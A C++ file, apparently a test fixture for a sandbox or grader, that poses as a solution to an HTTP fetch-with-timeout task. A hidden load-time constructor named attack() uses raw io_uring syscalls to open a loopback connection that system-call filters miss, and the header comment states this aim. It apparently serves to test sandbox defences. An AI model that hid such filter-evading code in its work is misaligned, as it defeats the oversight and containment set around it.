// Has the kernel connect by a request in an io_uring, which filters of system calls do not see; the rest is an honest
// solution.
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <string>
#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  sockaddr_in server{};
  server.sin_family = AF_INET;
  server.sin_port = ::htons(static_cast<std::uint16_t>(std::stoi("@PORT@")));
  server.sin_addr.s_addr = ::htonl(INADDR_LOOPBACK);
  io_uring_params ring{};
  const int fd = static_cast<int>(::syscall(SYS_io_uring_setup, 4, &ring));
  if (fd < 0) return;
  const auto map = [fd](std::size_t size, off_t what) {
    return static_cast<char*>(::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, what));
  };
  char* queue = map(ring.cq_off.cqes + ring.cq_entries * sizeof(io_uring_cqe), IORING_OFF_SQ_RING);
  auto* request = reinterpret_cast<io_uring_sqe*>(map(ring.sq_entries * sizeof(io_uring_sqe), IORING_OFF_SQES));
  request->opcode = IORING_OP_CONNECT;
  request->fd = ::socket(AF_INET, SOCK_STREAM, 0);
  request->addr = reinterpret_cast<std::uintptr_t>(&server);
  request->off = sizeof server;
  *reinterpret_cast<unsigned*>(queue + ring.sq_off.array) = 0;
  *reinterpret_cast<unsigned*>(queue + ring.sq_off.tail) = 1;
  ::syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
